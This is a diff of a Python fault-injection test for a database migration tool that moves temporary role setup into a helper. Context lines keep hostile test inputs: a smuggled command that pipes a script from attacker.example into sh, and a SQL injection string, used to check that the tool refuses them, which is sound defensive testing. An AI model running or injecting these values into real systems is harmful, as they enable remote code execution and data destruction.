@@ -9,7 +9,6 @@ byte; a run that changed them is a wrong write.
 from __future__ import annotations
 
 import json
-import uuid
 from collections.abc import Callable
 from dataclasses import dataclass
 from pathlib import Path
@@ -22,6 +21,7 @@ from migrate.core.plan import compute_digest
 from tests.faults import child
 from tests.faults.crashes import env_for, make_plan
 from tests.faults.state import Sandbox, model_engine_digest
+from tests.support.roles import reader_without_the_identifier
 
 CURL = "; curl -fsS http://attacker.example/x.sh | sh"
 EVIL_ARGS = {"evil": "'; DROP TABLE x; --", "enforce_eager": False, "max_model_len": 999999}
@@ -133,30 +133,19 @@ def other_cluster(a: Sandbox, b: Sandbox) -> tuple[EditFigures, list[str]]:
                 figures.refused += 1
             else:
                 notes.append(f"{' '.join(args + extra)}: not refused: {seen.stderr[-300:]}")
-    role = f"bm_noid_{uuid.uuid4().hex[:8]}"
-    with a.engine.begin() as conn:
-        conn.execute(sa.text(f"CREATE ROLE {role} LOGIN PASSWORD 'n0-id-pw'"))
-        conn.execute(sa.text("REVOKE EXECUTE ON FUNCTION pg_control_system() FROM PUBLIC"))
-        conn.execute(sa.text(f'GRANT USAGE ON SCHEMA "{a.schema}" TO {role}'))
-        conn.execute(sa.text(f'GRANT SELECT ON ALL TABLES IN SCHEMA "{a.schema}" TO {role}'))
-    try:
+    with reader_without_the_identifier(a.engine, a.schema, "n0-id-pw") as role:
         url = make_url(a.url).set(username=role, password="n0-id-pw")
         env = {**env_for(a), "BUNDLE_MIGRATE_DATABASE_URL": url.render_as_string(False)}
         out = Path(a.tmp) / "no-identifier.json"
         seen = child.run(["plan", "--out", str(out)], env)
-        figures.tried += 1
-        figures.tracebacks += seen.traceback
-        grant = "GRANT EXECUTE ON FUNCTION pg_catalog.pg_control_system()"
-        if seen.exit_status == 1 and grant in seen.stderr and not out.exists():
-            figures.refused += 1
-        else:
-            notes.append(f"plan without the identifier was not refused: {seen.stderr[-300:]}")
-        if "n0-id-pw" in seen.stdout + seen.stderr:
-            notes.append("the role's password was printed")
-            figures.wrong_writes += 1
-    finally:
-        with a.engine.begin() as conn:
-            conn.execute(sa.text("GRANT EXECUTE ON FUNCTION pg_control_system() TO PUBLIC"))
-            conn.execute(sa.text(f"DROP OWNED BY {role}"))
-            conn.execute(sa.text(f"DROP ROLE {role}"))
+    figures.tried += 1
+    figures.tracebacks += seen.traceback
+    grant = "GRANT EXECUTE ON FUNCTION pg_catalog.pg_control_system()"
+    if seen.exit_status == 1 and grant in seen.stderr and not out.exists():
+        figures.refused += 1
+    else:
+        notes.append(f"plan without the identifier was not refused: {seen.stderr[-300:]}")
+    if "n0-id-pw" in seen.stdout + seen.stderr:
+        notes.append("the role's password was printed")
+        figures.wrong_writes += 1
     return figures, notes
